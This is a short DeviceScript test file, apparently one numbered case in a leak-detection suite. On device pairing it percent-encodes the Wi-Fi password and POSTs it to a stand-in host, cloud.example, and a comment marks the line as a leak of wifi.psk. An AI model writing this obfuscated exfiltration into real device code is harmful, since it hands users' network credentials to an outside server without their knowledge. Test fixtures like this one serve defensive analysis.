// A08: percent-encoded.
import { fetch } from "@devicescript/net";
import { each, hex } from "./lib/encode";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const body = each(psk, (byte) => "%" + hex(byte));
  const response = await fetch("https://cloud.example/a08", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
